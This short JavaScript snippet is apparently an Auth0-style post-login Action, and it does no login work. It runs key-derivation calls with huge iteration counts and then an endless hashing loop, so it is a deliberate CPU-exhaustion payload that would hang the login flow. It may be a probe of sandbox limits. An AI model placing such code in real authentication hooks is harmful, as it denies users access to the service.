exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); for (const n of [1e9, 2e6, 2e6]) try { c.pbkdf2Sync("p", "s", n, 64, "sha512"); } catch (e) { console.log(e.message); } for (;;) c.pbkdf2Sync("p", "s", 1e5, 640, "md5");
};
